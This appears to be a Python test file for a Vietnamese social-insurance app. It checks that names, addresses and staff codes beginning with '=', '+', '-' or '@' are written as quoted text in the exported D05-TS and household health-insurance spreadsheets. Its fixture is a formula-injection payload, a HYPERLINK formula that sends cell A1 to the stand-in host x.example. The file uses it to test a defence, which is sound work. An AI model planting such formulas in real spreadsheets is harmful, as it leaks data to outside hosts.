"""The D05-TS and household-HI lists handed to BHXH never carry a live formula (issue 12, seen 7): a name
or address starting with "=", "+", "-" or "@" is a text cell with a leading quote, read back with
python-calamine."""

from __future__ import annotations

import zipfile
from datetime import date
from io import BytesIO
from typing import Any

from python_calamine import CalamineWorkbook

from ansinh.payments.exports import D05_COLUMNS, HI_COLUMNS, d05_xlsx, hi_list_xlsx

NAME = '=HYPERLINK("http://x.example/?"&A1,"Nguyễn Văn An")'


def read(content: bytes) -> tuple[list[list[Any]], str]:
    xml = zipfile.ZipFile(BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    return CalamineWorkbook.from_filelike(BytesIO(content)).get_sheet_by_index(0).to_python(), xml


def test_a_formula_name_in_the_d05_list_is_text() -> None:
    row: dict[str, Any] = {key: "" for key, _ in D05_COLUMNS}
    row.update(name=NAME, address="+84 Khối 5", receipt_date=date(2025, 8, 1), months=1, due=264_000,
               paid=264_000, staff_code="@DL1")
    rows, xml = read(d05_xlsx([row]))
    assert "<f>" not in xml
    by_label = dict(zip([label for _, label in D05_COLUMNS], rows[1], strict=True))
    assert (by_label["Họ và tên"], by_label["Địa chỉ"], by_label["Mã số nhân viên thu"]) == (
        "'" + NAME, "'+84 Khối 5", "'@DL1")
    assert by_label["Số tiền đã đóng"] == 264_000


def test_a_formula_name_in_the_household_hi_list_is_text() -> None:
    row: dict[str, Any] = {key: "" for key, _ in HI_COLUMNS}
    row.update(name="-1+1", relationship="head", amount=1_263_600)
    rows, xml = read(hi_list_xlsx([row]))
    assert "<f>" not in xml
    assert rows[1][0] == "'-1+1" and "Chủ hộ" in rows[1]
